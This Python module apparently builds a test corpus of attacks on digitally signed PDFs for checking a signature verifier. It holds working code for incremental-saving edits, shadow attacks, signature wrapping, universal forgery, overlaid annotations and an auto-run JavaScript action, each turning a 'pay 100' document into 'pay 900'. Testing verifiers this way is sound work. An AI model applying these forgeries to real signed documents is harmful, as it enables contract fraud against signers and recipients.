"""What people do to signed PDFs, made here so that every kind can be tried on every victim.

``ATTACKS`` maps a sentence to a function that takes a ``Victim`` and returns the attacked file.
The kinds are those known from pdf-insecurity.org (incremental saving, signature wrapping,
universal forgery, shadow hide and replace, evil annotations) and some that follow from them. An
attacker has the file and a text editor, and no key.

``victim_pdf`` is a document that invites them: text with a picture laid over it, a form field,
spare objects that nothing shows.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cached_property

import pikepdf

# Object numbers of the victim.
CATALOG, PAGES, PAGE_1, TEXT_1, FONT, COVER, PAGE_2, TEXT_2 = range(1, 9)
FIELD, LOOK, SPARE, SPARE_LENGTH, PREPARED = range(9, 14)
_TRUE_TEXT = b"BT /F1 24 Tf 100 700 Td (Pay 100 yuan a month) Tj ET /Cover Do"
_SHORT = b"BT /F1 12 Tf 100 700 Td (second page) Tj ET"
_LONG = b"BT /F1 12 Tf 100 600 Td (and hereby everything) Tj ET"
_FALSE_TEXT = b"BT /F1 24 Tf 100 700 Td (Pay 900 yuan a month) Tj ET"


def victim_pdf() -> bytes:
    """A two-page document, not signed yet."""
    return raw_pdf(
        {
            PREPARED: _stream(b"", b"4 0 obj\n%b\nendobj" % _stream(b"", _FALSE_TEXT)),
            CATALOG: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[9 0 R]"
            b"/DR<</Font<</F1 5 0 R>>>>/DA(/F1 12 Tf 0 g)>>>>",
            PAGES: b"<</Type/Pages/Kids[3 0 R 7 0 R]/Count 2/MediaBox[0 0 595 842]>>",
            PAGE_1: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Annots[9 0 R]"
            b"/Resources<</Font<</F1 5 0 R>>/XObject<</Cover 6 0 R>>>>>>",
            TEXT_1: _stream(b"", _TRUE_TEXT),
            FONT: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            COVER: _stream(
                b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]", b"1 g 90 640 300 30 re f"
            ),
            PAGE_2: b"<</Type/Page/Parent 2 0 R/Contents 8 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
            # It ends where its length says; what follows is there for a larger one.
            TEXT_2: b"<</Length 12 0 R>>\nstream\n%b\nendstream\n%b\nendstream" % (_SHORT, _LONG),
            FIELD: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(amount)/V(100)/Rect[100 500 200 520]"
            b"/P 3 0 R/F 4/DA(/F1 12 Tf 0 g)/AP<</N 10 0 R>>>>",
            LOOK: _look(b"100"),
            SPARE: _stream(b"", _FALSE_TEXT),
            SPARE_LENGTH: b"%d" % len(_SHORT),
        }
    )


@dataclass(frozen=True)
class Victim:
    """A signed file; ``numbers`` are of the revision that the last signature covers."""

    pdf: bytes

    @cached_property
    def trailer(self) -> tuple[bytes, int, int]:
        """Root reference, size and the place of the newest cross-reference section."""
        start = int(re.findall(rb"startxref\s+(\d+)", self.pdf)[-1])
        trailer = self.pdf[start:]
        root = re.search(rb"/Root\s+(\d+ \d+ R)", trailer)
        size = re.search(rb"/Size\s+(\d+)", trailer)
        assert root and size
        return root[1], int(size[1]), start

    def source(self, number: int) -> bytes:
        """The newest written form of an object, without its frame."""
        written = re.findall(rb"(?<!\d)%d 0 obj\s(.*?)\sendobj" % number, self.pdf, re.DOTALL)
        return bytes(written[-1].strip())

    def field_number(self, name: str) -> int:
        """The object number of a form field."""
        with pikepdf.open(io.BytesIO(self.pdf)) as pdf:
            for field in pdf.Root.AcroForm.Fields:
                if str(field.get("/T")) == name:
                    return int(field.objgen[0])
        raise KeyError(name)

    def signature_number(self, name: str) -> int:
        """The object number of the signature in a field."""
        value = re.search(rb"/V (\d+) 0 R", self.source(self.field_number(name)))
        assert value
        return int(value[1])

    def with_increment(
        self,
        objects: Mapping[int, bytes],
        *,
        root: bytes | None = None,
        freed: tuple[int, ...] = (),
        listed: Mapping[int, int] | None = None,
    ) -> bytes:
        """The file with one more increment; ``listed`` are offsets of objects that are there."""
        old_root, size, previous = self.trailer
        out = bytearray(self.pdf)
        if not out.endswith(b"\n"):
            out += b"\n"
        places = dict(listed or {})
        for number, body in objects.items():
            places[number] = len(out)
            out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
        start = len(out)
        out += b"xref\n"
        for number in sorted({*places, *freed}):
            entry = b"%010d 00000 n" % places[number] if number in places else b"0000000000 00001 f"
            out += b"%d 1\n%b \n" % (number, entry)
        if not places and not freed:
            out += b"0 0\n"
        out += b"trailer\n<</Size %d/Root %b/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
            max([size, *(n + 1 for n in places)]),
            root or old_root,
            previous,
            start,
        )
        return bytes(out)

    @property
    def next_number(self) -> int:
        """An object number that is free."""
        return self.trailer[1]


Attack = Callable[[Victim], bytes]
ATTACKS: dict[str, Attack] = {}


def attack(sentence: str) -> Callable[[Attack], Attack]:
    """Names an attack."""

    def named(function: Attack) -> Attack:
        ATTACKS[sentence] = function
        return function

    return named


# Incremental saving: something is appended, nothing is broken.


@attack("incremental saving: the text of a page is exchanged")
def _text_exchanged(victim: Victim) -> bytes:
    return victim.with_increment({TEXT_1: _stream(b"", _FALSE_TEXT)})


@attack("incremental saving: a page is pointed to another text that was there all along")
def _text_redirected(victim: Victim) -> bytes:
    page = victim.source(PAGE_1).replace(b"4 0 R", b"11 0 R")
    return victim.with_increment({PAGE_1: page})


@attack("incremental saving: a page is added")
def _page_added(victim: Victim) -> bytes:
    new = victim.next_number
    page = b"<</Type/Page/Parent 2 0 R/Contents 11 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    pages = b"<</Type/Pages/Kids[3 0 R 7 0 R %d 0 R]/Count 3/MediaBox[0 0 595 842]>>" % new
    return victim.with_increment({new: page, PAGES: pages})


@attack("incremental saving: a page is taken out")
def _page_removed(victim: Victim) -> bytes:
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    return victim.with_increment({PAGES: pages})


@attack("incremental saving: the pages change places")
def _pages_swapped(victim: Victim) -> bytes:
    pages = b"<</Type/Pages/Kids[7 0 R 3 0 R]/Count 2/MediaBox[0 0 595 842]>>"
    return victim.with_increment({PAGES: pages})


@attack("incremental saving: the trailer names another catalog")
def _other_catalog(victim: Victim) -> bytes:
    new = victim.next_number
    catalog = victim.source(CATALOG).replace(b"/Pages 2 0 R", b"/Pages %d 0 R" % (new + 1))
    pages = b"<</Type/Pages/Kids[7 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    return victim.with_increment({new: catalog, new + 1: pages}, root=b"%d 0 R" % new)


@attack("incremental saving: a margin is cropped away")
def _cropped(victim: Victim) -> bytes:
    pages = b"<</Type/Pages/Kids[3 0 R 7 0 R]/Count 2/MediaBox[0 0 595 842]/CropBox[0 0 595 600]>>"
    return victim.with_increment({PAGES: pages})


@attack("incremental saving: another font shows other letters")
def _other_font(victim: Victim) -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding"
        b"<</Type/Encoding/Differences[49/nine]>>>>"
    )
    return victim.with_increment({FONT: font})


@attack("incremental saving: a script runs when the file is opened")
def _script(victim: Victim) -> bytes:
    catalog = victim.source(CATALOG)[:-2] + b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    return victim.with_increment({CATALOG: catalog})


@attack("incremental saving: a file is attached")
def _attachment(victim: Victim) -> bytes:
    new = victim.next_number
    names = b"/Names<</EmbeddedFiles<</Names[(a)%d 0 R]>>>>>>" % new
    file = b"<</Type/Filespec/F(a)/EF<</F 11 0 R>>>>"
    return victim.with_increment({new: file, CATALOG: victim.source(CATALOG)[:-2] + names})


@attack("incremental saving: a number that other objects lean on grows")
def _length_grown(victim: Victim) -> bytes:
    return victim.with_increment({SPARE_LENGTH: b"%d" % len(_SHORT + b"\nendstream\n" + _LONG)})


@attack("incremental saving: the signature's field is emptied")
def _signature_emptied(victim: Victim) -> bytes:
    number = victim.field_number("village")
    field = re.sub(rb"/V \d+ 0 R", b"", victim.source(number))
    return victim.with_increment({number: field})


@attack("incremental saving: all signature fields are taken out of the form")
def _form_emptied(victim: Victim) -> bytes:
    catalog = re.sub(rb"/Fields \[[^\]]*\]", b"/Fields [9 0 R]", victim.source(CATALOG))
    return victim.with_increment({CATALOG: catalog})


# Objects that only some readers find.


@attack("hidden objects: a new text behind an empty cross-reference section")
def _behind_empty_xref(victim: Victim) -> bytes:
    hidden = b"%d 0 obj\n%b\nendobj\n" % (TEXT_1, _stream(b"", _FALSE_TEXT))
    return Victim(victim.pdf + hidden).with_increment({})


@attack("hidden objects: a new text with no cross-reference at all")
def _without_xref(victim: Victim) -> bytes:
    hidden = b"%d 0 obj\n%b\nendobj\n" % (TEXT_1, _stream(b"", _FALSE_TEXT))
    _, _, start = victim.trailer
    return victim.pdf + hidden + b"startxref\n%d\n%%%%EOF\n" % start


@attack("hidden objects: appended after the end of the file")
def _after_the_end(victim: Victim) -> bytes:
    return victim.pdf + b"%d 0 obj\n%b\nendobj\n" % (TEXT_1, _stream(b"", _FALSE_TEXT))


@attack("hidden objects: an entry that points beside its object")
def _entry_beside(victim: Victim) -> bytes:
    changed = victim.with_increment({TEXT_1: _stream(b"", _FALSE_TEXT)})
    place = changed.rindex(b"%d 0 obj" % TEXT_1)
    return changed.replace(b"%010d 00000 n" % place, b"%010d 00000 n" % (place + 3))


# What one reader takes for one thing and another for another: the first of two, or the last.


@attack("said twice: a page has two contents")
def _two_contents(victim: Victim) -> bytes:
    page = victim.source(PAGE_1)
    return victim.with_increment({PAGE_1: page.replace(b"<<", b"<</Contents %d 0 R" % SPARE, 1)})


@attack("said twice: the catalog has two page trees")
def _two_page_trees(victim: Victim) -> bytes:
    new = victim.next_number
    pages = b"<</Type/Pages/Kids[7 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    catalog = victim.source(CATALOG).replace(b"<<", b"<</Pages %d 0 R" % new, 1)
    return victim.with_increment({new: pages, CATALOG: catalog})


@attack("said twice: the trailer has two roots")
def _two_roots(victim: Victim) -> bytes:
    new = victim.next_number
    catalog = victim.source(CATALOG).replace(b"/Pages 2 0 R", b"/Pages %d 0 R" % (new + 1))
    pages = b"<</Type/Pages/Kids[7 0 R]/Count 1/MediaBox[0 0 595 842]>>"
    root = b"%d 0 R/Root %b" % (new, victim.trailer[0])
    return victim.with_increment({new: catalog, new + 1: pages}, root=root)


@attack("said twice: the table of contents has two places for a text")
def _two_places(victim: Victim) -> bytes:
    prepared = victim.pdf.index(b"4 0 obj\n", victim.pdf.index(b"\n%d 0 obj" % PREPARED))
    own = victim.pdf.rindex(b"\n%d 0 obj" % TEXT_1) + 1
    once = victim.with_increment({}, listed={TEXT_1: own})
    entry = b"%d 1\n%010d 00000 n \n" % (TEXT_1, own)
    return once.replace(entry, b"%d 1\n%010d 00000 n \n" % (TEXT_1, prepared) + entry)


@attack("said twice: the table and the stream beside it have two places for a text")
def _two_tables(victim: Victim) -> bytes:
    prepared = victim.pdf.index(b"4 0 obj\n", victim.pdf.index(b"\n%d 0 obj" % PREPARED))
    own = victim.pdf.rindex(b"\n%d 0 obj" % TEXT_1) + 1
    new = victim.next_number
    row = b"\1" + prepared.to_bytes(4, "big") + b"\0"
    beside = b"<</Type/XRef/Size %d/W[1 4 1]/Index[%d 1]/Length 6>>\nstream\n%b\nendstream" % (
        new + 1, TEXT_1, row,
    )  # fmt: skip
    both = victim.with_increment({new: beside}, listed={TEXT_1: own})
    return both.replace(
        b"/Prev %d>>\nstartxref\n%d" % (victim.trailer[2], Victim(both).trailer[2]),
        b"/Prev %d/XRefStm %d>>\nstartxref\n%d"
        % (victim.trailer[2], both.rindex(b"\n%d 0 obj" % new) + 1, Victim(both).trailer[2]),
    )


@attack("said twice: a stream of objects has two of one number")
def _two_packed(victim: Victim) -> bytes:
    page = victim.source(PAGE_1)
    false = page.replace(b"/Contents 4 0 R", b"/Contents %d 0 R" % SPARE)
    assert false != page
    heads = b"%d 0 %d %d " % (PAGE_1, PAGE_1, len(false) + 1)
    body = heads + false + b" " + page
    new = victim.next_number
    packed = _stream(b"/Type/ObjStm/N 2/First %d" % len(heads), body)
    out = bytearray(victim.pdf + b"\n")
    packed_at = len(out)
    out += b"%d 0 obj\n%b\nendobj\n" % (new, packed)
    start = len(out)
    rows = b"".join(
        kind.to_bytes(1, "big") + one.to_bytes(4, "big") + b"\0"
        for kind, one in ((2, new), (1, packed_at), (1, start))
    )
    root, _, previous = victim.trailer
    entries = b"/Type/XRef/Size %d/W[1 4 1]/Index[%d 1 %d 2]/Root %b/Prev %d" % (
        new + 2, PAGE_1, new, root, previous,
    )  # fmt: skip
    out += b"%d 0 obj\n%b\nendobj\n" % (new + 1, _stream(entries, rows))
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


@attack("said twice: a page calls itself a tree without pages")
def _page_is_a_tree(victim: Victim) -> bytes:
    return victim.with_increment({PAGE_1: victim.source(PAGE_1).replace(b"/Page", b"/Pages", 1)})


# Shadow attacks: what was prepared before signing is turned over afterwards.


@attack("shadow: the picture over a text is emptied")
def _cover_emptied(victim: Victim) -> bytes:
    form = _stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]", b"")
    return victim.with_increment({COVER: form})


@attack("shadow: the picture over a text is freed")
def _cover_freed(victim: Victim) -> bytes:
    return victim.with_increment({}, freed=(COVER,))


@attack("shadow: an entry is pointed to another text hidden in a signed stream")
def _entry_redirected(victim: Victim) -> bytes:
    prepared = victim.pdf.index(b"4 0 obj\n", victim.pdf.index(b"\n%d 0 obj" % PREPARED))
    return victim.with_increment({}, listed={TEXT_1: prepared})


@attack("shadow: a form field shows what is not its value")
def _look_exchanged(victim: Victim) -> bytes:
    return victim.with_increment({LOOK: _look(b"900")})


@attack("shadow: a form field gets another value after the last signature")
def _value_exchanged(victim: Victim) -> bytes:
    field = victim.source(FIELD).replace(b"(100)", b"(900)")
    return victim.with_increment({FIELD: field, LOOK: _look(b"900")})


@attack("shadow: readers are told to draw the fields anew")
def _drawn_anew(victim: Victim) -> bytes:
    field = victim.source(FIELD).replace(b"(100)", b"(900)")
    catalog = re.sub(
        rb"/AcroForm\s*<<", b"/AcroForm <</NeedAppearances true", victim.source(CATALOG)
    )
    return victim.with_increment({FIELD: field, CATALOG: catalog})


@attack("incremental saving: the long-term data is taken away")
def _evidence_emptied(victim: Victim) -> bytes:
    store = re.search(rb"/DSS (\d+) 0 R", victim.source(CATALOG))
    assert store
    return victim.with_increment({int(store[1]): b"<<>>"})


# Things laid over the page.

NOTE = b"<</Type/Annot/Subtype/FreeText/Rect[90 690 400 730]/Contents(900)/AP<</N 6 0 R>>>>"


@attack("evil annotation: a note over the text")
def _note_over(victim: Victim) -> bytes:
    return _annotated(
        victim,
        b"<</Type/Annot/Subtype/FreeText/Rect[90 690 400 730]/Contents(900)/AP<</N 6 0 R>>>>",
    )


@attack("evil annotation: a widget that belongs to no form")
def _loose_widget(victim: Victim) -> bytes:
    return _annotated(
        victim, b"<</Type/Annot/Subtype/Widget/Rect[90 690 400 730]/FT/Sig/AP<</N 6 0 R>>>>"
    )


@attack("evil annotation: an empty signature field whose look covers the text")
def _covering_field(victim: Victim) -> bytes:
    new = victim.next_number
    field = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(extra)/Rect[90 690 400 730]/AP<</N 6 0 R>>>>"
    catalog = re.sub(rb"/Fields\s*\[", b"/Fields [%d 0 R " % new, victim.source(CATALOG))
    return victim.with_increment({new: field, CATALOG: catalog, PAGE_1: _page_with(victim, new)})


@attack("evil annotation: a stage's seal is moved over the text")
def _seal_moved(victim: Victim) -> bytes:
    number = victim.field_number("township")
    field = re.sub(rb"/Rect \[[^\]]*\]", b"/Rect [90 690 400 730]", victim.source(number))
    return victim.with_increment({number: field})


@attack("evil annotation: a new text field lies over the text")
def _field_over(victim: Victim) -> bytes:
    new = victim.next_number
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(over)/V(900)/Rect[90 690 400 730]/AP<</N 10 0 R>>>>"
    )
    catalog = re.sub(rb"/Fields\s*\[", b"/Fields [%d 0 R " % new, victim.source(CATALOG))
    return victim.with_increment({new: field, CATALOG: catalog, PAGE_1: _page_with(victim, new)})


# Signature wrapping: the signed bytes are still there, but somewhere else.


@attack("wrapping: the gap is widened and another table of contents put where the old one was")
def _wrapped(victim: Victim) -> bytes:
    first, second, end = _byte_range(victim.pdf)
    number = _signature_object(victim.pdf, first)
    old_table = int(re.findall(rb"startxref\s+(\d+)", victim.pdf[:end])[-1])
    previous = int(re.findall(rb"/Prev (\d+)", victim.pdf[:end])[-1])
    root, size, _ = victim.trailer
    room = 3 * (second - first)  # what is put between; the old tail moves back by it
    text = b"%d 0 obj\n%b\nendobj\n" % (TEXT_1, _stream(b"", _FALSE_TEXT))
    signature = b"%d 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached" % number
    signature += b"/ByteRange[0 %d %d %d]/Contents %b>>\nendobj\n" % (
        first, second + room, end - second, victim.pdf[first:second],
    )  # fmt: skip
    field = victim.field_number("county")
    widget = b"%d 0 obj\n%b\nendobj\n" % (field, victim.source(field))
    text_at = old_table + 400  # the new table takes the old one's place, to which startxref leads
    signature_at = text_at + len(text)
    table = b"xref\n"
    for entry in (
        (TEXT_1, text_at),
        (number, signature_at),
        (field, signature_at + len(signature)),
    ):
        table += b"%d 1\n%010d 00000 n \n" % entry
    table += b"trailer\n<</Size %d/Root %b/Prev %d>>\n" % (size, root, previous)
    evil = b" " * (old_table - second) + table.ljust(400) + text + signature + widget
    return victim.pdf[:second] + evil.ljust(room) + victim.pdf[second:end]


@attack("wrapping: a comment is put into the gap beside the value")
def _gap_commented(victim: Victim) -> bytes:
    first, second, _ = _byte_range(victim.pdf)
    value = victim.pdf[first:second]
    room = value.rstrip(b">").rstrip(b"0")
    comment = b"%not signed\n<" + room[1:]
    return victim.pdf[:first] + comment.ljust(second - first - 1, b"0") + b">" + victim.pdf[second:]


@attack("wrapping: the signature is rewritten with a byte range that leaves out a page")
def _range_rewritten(victim: Victim) -> bytes:
    number = victim.signature_number("county")
    source = victim.source(number)
    changed = re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 100 200 300]", source)
    return victim.with_increment({number: changed})


@attack("wrapping: the signature is copied behind the end, its byte range kept")
def _signature_copied(victim: Victim) -> bytes:
    number = victim.signature_number("county")
    return victim.with_increment({number: victim.source(number), TEXT_1: _stream(b"", _FALSE_TEXT)})


# Universal forgery: the signature is made so that a lazy verifier gives up on it, kindly.


def _forged(sentence: str, pattern: bytes, replacement: bytes) -> None:
    @attack(f"universal forgery: {sentence}")
    def forge(victim: Victim) -> bytes:
        number = victim.signature_number("county")
        changed, count = re.subn(pattern, replacement, victim.source(number), flags=re.DOTALL)
        assert count, pattern
        return victim.with_increment({number: changed, TEXT_1: _stream(b"", _FALSE_TEXT)})


_CONTENTS = rb"/Contents <[^>]*>"
_RANGE = rb"/ByteRange \[[^\]]*\]"
_forged("no value at all", _CONTENTS, b"")
_forged("an empty value", _CONTENTS, b"/Contents <>")
_forged("a value of zeros", _CONTENTS, b"/Contents <" + b"00" * 400 + b">")
_forged("a null value", _CONTENTS, b"/Contents null")
_forged("a value that is no string", _CONTENTS, b"/Contents [1 2 3]")
_forged("no byte range", _RANGE, b"")
_forged("a null byte range", _RANGE, b"/ByteRange null")
_forged("an empty byte range", _RANGE, b"/ByteRange []")
_forged("a byte range of nothing", _RANGE, b"/ByteRange [0 0 0 0]")
_forged("a negative byte range", _RANGE, b"/ByteRange [0 -1 10 -5]")
_forged("a byte range beyond the file", _RANGE, b"/ByteRange [0 10 20 99999999]")
_forged("a byte range in fractions", _RANGE, b"/ByteRange [0.0 10.5 20.1 30.9]")
_forged("two byte ranges", _RANGE, b"/ByteRange [0 10 20 30]/ByteRange [0 10 20 40]")
_forged("an unknown format", rb"/SubFilter /[\w.]+", b"/SubFilter /adbe.none")
_forged("no format", rb"/SubFilter /[\w.]+", b"")


@attack("universal forgery: the field holds a number instead of a signature")
def _number_for_signature(victim: Victim) -> bytes:
    number = victim.field_number("county")
    field = re.sub(rb"/V \d+ 0 R", b"/V 1", victim.source(number))
    return victim.with_increment({number: field, TEXT_1: _stream(b"", _FALSE_TEXT)})


# Signatures in the wrong place.


@attack("exchanged: two signatures change places")
def _signatures_swapped(victim: Victim) -> bytes:
    one, other = (victim.field_number(name) for name in ("village", "township"))
    values = {n: re.search(rb"/V \d+ 0 R", victim.source(n)) for n in (one, other)}
    first, second = (values[n] for n in (one, other))
    assert first and second
    return victim.with_increment(
        {
            one: victim.source(one).replace(first[0], second[0]),
            other: victim.source(other).replace(second[0], first[0]),
        }
    )


@attack("exchanged: the values of two signatures change places")
def _values_swapped(victim: Victim) -> bytes:
    spans = [m.span(1) for m in re.finditer(rb"/Contents <([0-9a-fA-F]{4000,})>", victim.pdf)]
    (a, b), (c, d) = spans[0], spans[1]
    out = bytearray(victim.pdf)
    room = min(b - a, d - c)
    out[a : a + room], out[c : c + room] = out[c : c + room], out[a : a + room]
    return bytes(out)


@attack("exchanged: one signature serves two fields")
def _signature_twice(victim: Victim) -> bytes:
    number = victim.field_number("county")
    value = b"/V %d 0 R" % victim.signature_number("village")
    return victim.with_increment({number: re.sub(rb"/V \d+ 0 R", value, victim.source(number))})


# Brute force.


@attack("cut off: in the middle")
def _cut_in_half(victim: Victim) -> bytes:
    return victim.pdf[: len(victim.pdf) // 2]


@attack("cut off: before the last line")
def _cut_at_the_end(victim: Victim) -> bytes:
    return victim.pdf[: victim.pdf.rindex(b"startxref")]


@attack("cut off: inside the last signature")
def _cut_in_signature(victim: Victim) -> bytes:
    return victim.pdf[: victim.pdf.rindex(b"/Contents <") + 500]


@attack("doubled: the whole file follows itself")
def _doubled(victim: Victim) -> bytes:
    return victim.pdf + victim.pdf


@attack("doubled: another document follows")
def _two_documents(victim: Victim) -> bytes:
    return victim.pdf + victim_pdf()


def raw_pdf(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of exactly these objects; number 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for number in sorted(objects):
        out += b"%010d 00000 n \n" % places[number]
    out += b"trailer\n<</Size %d/Root 1 0 R/ID[<00112233><00112233>]>>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


def _look(text: bytes) -> bytes:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F1 5 0 R>>>>"
    return _stream(entries, b"/Tx BMC q BT /F1 12 Tf 2 5 Td (%b) Tj ET Q EMC" % text)


def _annotated(victim: Victim, annotation: bytes) -> bytes:
    new = victim.next_number
    return victim.with_increment({new: annotation, PAGE_1: _page_with(victim, new)})


def _page_with(victim: Victim, annotation: int) -> bytes:
    page, count = re.subn(rb"/Annots\s*\[", b"/Annots [%d 0 R " % annotation, victim.source(PAGE_1))
    assert count
    return page


def _byte_range(pdf: bytes) -> tuple[int, int, int]:
    """Of the last signature: where its value begins and ends, and where its coverage does."""
    numbers = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", pdf)[-1]
    _, first, second, rest = map(int, numbers)
    return first, second, second + rest


def _signature_object(pdf: bytes, first: int) -> int:
    """The number of the object that the byte ``first`` lies in."""
    written = pdf[:first].rpartition(b" 0 obj")[0]
    return int(written.rpartition(b"\n")[2])
